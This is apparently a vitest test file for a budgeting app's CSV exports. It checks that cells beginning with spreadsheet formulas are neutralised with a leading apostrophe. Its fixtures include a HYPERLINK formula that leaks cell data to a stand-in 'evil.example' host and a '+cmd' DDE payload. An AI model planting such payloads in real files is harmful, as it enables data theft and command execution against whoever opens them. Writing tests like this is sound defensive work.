/**
 * Spreadsheet formula injection through the real CSV downloads: a partner types text a
 * spreadsheet would run (`=HYPERLINK(…)`, `+cmd`, `-2+3`, `@SUM(1)`, or the same behind a tab or
 * carriage return) into the pot, a barrier or an action through a real client; the CSV that
 * another partner downloads, live or from a snapshot, holds every such cell as text (a leading
 * apostrophe, as shared/exportCsv.ts writes it), while amounts and counts stay plain numbers.
 */
import { describe, expect, it } from 'vitest'
import { addAction, addDecision } from '../../shared/actions.ts'
import { addBarrier, DEFAULT_BARRIER } from '../../shared/barriers.ts'
import { ACTION_CSV_COLUMNS } from '../../shared/sections/actions/exports.ts'
import { BARRIER_CSV_COLUMNS } from '../../shared/sections/barriers/exports.ts'
import { POT_CSV_COLUMNS } from '../../shared/sections/pot/exports.ts'
import { addPotLine, DEFAULT_LINE } from '../../shared/pot.ts'
import { readCsv } from '../../shared/potCsv.ts'
import { connect, createRoom, sleep, type TestClient } from '../helpers/syncClient.ts'
import { useTestServer } from '../helpers/testServer.ts'

const ts = useTestServer()

/** What a spreadsheet would run if a cell began with it (the OWASP list). */
const FORMULA_START = /^[=+\-@\t\r]/

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the figures")'
const CMD = "+cmd|' /C calc'!A0"
const ARITHMETIC = '-2+3'
const AT_SUM = '@SUM(1)'
// Text fields are trimmed when validated, so a leading tab or CR survives only in a name.
const TAB = '\t=1+1'
const CR = '\r=2+2'

const tabWriter = { userId: 'writer-tab', name: TAB, organisation: CR }
const crWriter = { userId: 'writer-cr', name: CR, organisation: 'Kent County Council' }

async function download(pathname: string): Promise<string[][]> {
  const response = await fetch(`${ts.server.origin}${pathname}`)
  expect(response.status, pathname).toBe(200)
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  return readCsv(await response.text())
}

/** Polls `read` until `done` holds, for content that reaches the server through sync. */
async function eventually<T>(read: () => Promise<T>, done: (value: T) => boolean, what: string): Promise<T> {
  const started = Date.now()
  for (;;) {
    const value = await read()
    if (done(value)) return value
    if (Date.now() - started > 5000) throw new Error(`timed out waiting for ${what}`)
    await sleep(50)
  }
}

/** The table's rows as objects by column, after checking the header row. */
function rowsOf(table: string[][], columns: readonly string[]): Record<string, string>[] {
  expect(table[0]).toEqual([...columns])
  return table.slice(1).map((row) => Object.fromEntries(columns.map((c, i) => [c, row[i] ?? ''])))
}

/** No cell of the whole table would run as a formula in a spreadsheet. */
function expectNoFormula(table: string[][], what: string): void {
  for (const [r, row] of table.entries()) {
    for (const [c, cell] of row.entries())
      expect(FORMULA_START.test(cell), `${what} row ${r} column ${c}: ${JSON.stringify(cell)}`).toBe(false)
  }
}

const neutralised = (text: string) => `'${text}`

/**
 * Fills the room through two connections: the server binds a connection to the first person it
 * writes for, so each writer (with a formula in their name) has one of their own.
 */
async function fillRoom(tabClient: TestClient, crClient: TestClient): Promise<void> {
  const doc = tabClient.doc
  addPotLine(
    doc,
    {
      ...DEFAULT_LINE,
      partner: HYPERLINK,
      stream: CMD,
      amount: 120_000_000,
      kindDescription: AT_SUM,
      valuation: ARITHMETIC,
      // Years are kept to financial years by the server's rules, so they cannot carry a formula.
      years: '2026-27',
      conditions: AT_SUM,
    },
    tabWriter,
    1,
  )
  addPotLine(
    crClient.doc,
    { ...DEFAULT_LINE, partner: 'Kent Police', stream: 'Youth offending', amount: 2_550 },
    crWriter,
    2,
  )
  const barrier = addBarrier(
    doc,
    {
      ...DEFAULT_BARRIER,
      title: HYPERLINK,
      description: CMD,
      rule: AT_SUM,
      raisedBy: ARITHMETIC,
      champion: CMD,
      flexibility: HYPERLINK,
      impactPence: 5_000_000,
      familiesAffected: 120,
    },
    tabWriter,
    3,
  )
  addAction(
    crClient.doc,
    { what: HYPERLINK, ownerOrganisation: CMD, ownerPerson: ARITHMETIC, dueDate: '2012-03-31', status: 'open' },
    crWriter,
    4,
    [{ kind: 'barrier', id: barrier }],
  )
  addDecision(doc, { what: AT_SUM }, [ARITHMETIC, 'Kent County Council'], tabWriter, 5)
}

describe('CSV downloads neutralise formulas', () => {
  it('in the pot, the barriers and the actions, live and from a snapshot', async () => {
    const room = await createRoom(ts.server, 'Kent: formulas')
    const writer = connect(ts.server, room.roomId, room.tokens.participant)
    const crWriterClient = connect(ts.server, room.roomId, room.tokens.participant)
    ts.clients.push(writer, crWriterClient)
    await Promise.all([writer.firstSync, crWriterClient.firstSync])
    await fillRoom(writer, crWriterClient)

    const live = (part: string) =>
      `/api/rooms/${room.roomId}/export?format=csv&part=${part}&token=${room.tokens.observer}`
    const potTable = await eventually(
      () => download(live('pot')),
      (t) => t.length === 3,
      'both pot lines on the server',
    )
    const barrierTable = await eventually(
      () => download(live('barriers')),
      (t) => t.length === 2,
      'the barrier on the server',
    )
    const actionTable = await eventually(
      () => download(live('actions')),
      (t) => t.length === 3,
      'the action and decision on the server',
    )

    const snapshot = await fetch(`${ts.server.origin}/api/rooms/${room.roomId}/snapshots`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${room.tokens.facilitator}` },
      body: JSON.stringify({ name: 'With formulas' }),
    })
    expect(snapshot.status).toBe(201)
    const { id } = (await snapshot.json()) as { id: string }
    const frozen = (part: string) =>
      `/api/rooms/${room.roomId}/snapshots/${id}?format=csv&part=${part}&token=${room.tokens.observer}`

    for (const [source, tables] of [
      ['live', { pot: potTable, barriers: barrierTable, actions: actionTable }],
      [
        'snapshot',
        {
          pot: await download(frozen('pot')),
          barriers: await download(frozen('barriers')),
          actions: await download(frozen('actions')),
        },
      ],
    ] as const) {
      expectNoFormula(tables.pot, `${source} pot`)
      expectNoFormula(tables.barriers, `${source} barriers`)
      expectNoFormula(tables.actions, `${source} actions`)

      const [line, police] = rowsOf(tables.pot, POT_CSV_COLUMNS)
      expect(line).toMatchObject({
        Partner: neutralised(HYPERLINK),
        'Funding stream': neutralised(CMD),
        'What is given in kind': neutralised(AT_SUM),
        'How it was valued': neutralised(ARITHMETIC),
        'Financial years': '2026-27',
        'Conditions and notes': neutralised(AT_SUM),
        'Proposed by': neutralised(TAB),
        'Proposed by (organisation)': neutralised(CR),
        // Amounts are numbers a spreadsheet can add up, not text.
        'Amount (£)': '1200000',
      })
      expect(police).toMatchObject({
        Partner: 'Kent Police',
        'Funding stream': 'Youth offending',
        'Amount (£)': '25.5',
        'Proposed by': neutralised(CR),
      })

      const [barrier] = rowsOf(tables.barriers, BARRIER_CSV_COLUMNS)
      expect(barrier).toMatchObject({
        Barrier: neutralised(HYPERLINK),
        Description: neutralised(CMD),
        Rule: neutralised(AT_SUM),
        'Raised by': neutralised(ARITHMETIC),
        Champion: neutralised(CMD),
        'Flexibility sought': neutralised(HYPERLINK),
        'Added by': neutralised(TAB),
        'Impact (£)': '50000',
        'Families affected': '120',
      })

      const [action, decision] = rowsOf(tables.actions, ACTION_CSV_COLUMNS)
      expect(action).toMatchObject({
        Type: 'Action',
        What: neutralised(HYPERLINK),
        'Owner (organisation)': neutralised(CMD),
        'Owner (person)': neutralised(ARITHMETIC),
        Due: '2012-03-31',
        'Added by': neutralised(CR),
      })
      // A link names what it points at after its kind, so the barrier's formula title is not at the start.
      expect(action!.Links).toBe(`Barrier: ${HYPERLINK}`)
      expect(decision).toMatchObject({
        Type: 'Decision',
        What: neutralised(AT_SUM),
        'Agreed by': neutralised(`${ARITHMETIC}; Kent County Council`),
        'Added by': neutralised(TAB),
      })
    }
  })

  it('leaves ordinary text and dates as they are', async () => {
    const room = await createRoom(ts.server, 'Kent: plain')
    const writer = connect(ts.server, room.roomId, room.tokens.participant)
    ts.clients.push(writer)
    await writer.firstSync
    const amira = { userId: 'a', name: 'Amira Khan', organisation: 'Department for Work and Pensions (DWP)' }
    addPotLine(
      writer.doc,
      {
        ...DEFAULT_LINE,
        partner: 'DWP',
        stream: 'Work Programme',
        amount: 99,
        years: '2011-12',
        conditions: 'Subject to sign-off, 2012',
      },
      amira,
      1,
    )
    const table = await eventually(
      () => download(`/api/rooms/${room.roomId}/export?format=csv&part=pot&token=${room.tokens.participant}`),
      (t) => t.length === 2,
      'the line on the server',
    )
    expect(rowsOf(table, POT_CSV_COLUMNS)[0]).toMatchObject({
      Partner: 'DWP',
      'Funding stream': 'Work Programme',
      'Amount (£)': '0.99',
      'Financial years': '2011-12',
      'Conditions and notes': 'Subject to sign-off, 2012',
      'Proposed by': 'Amira Khan',
    })
  })
})
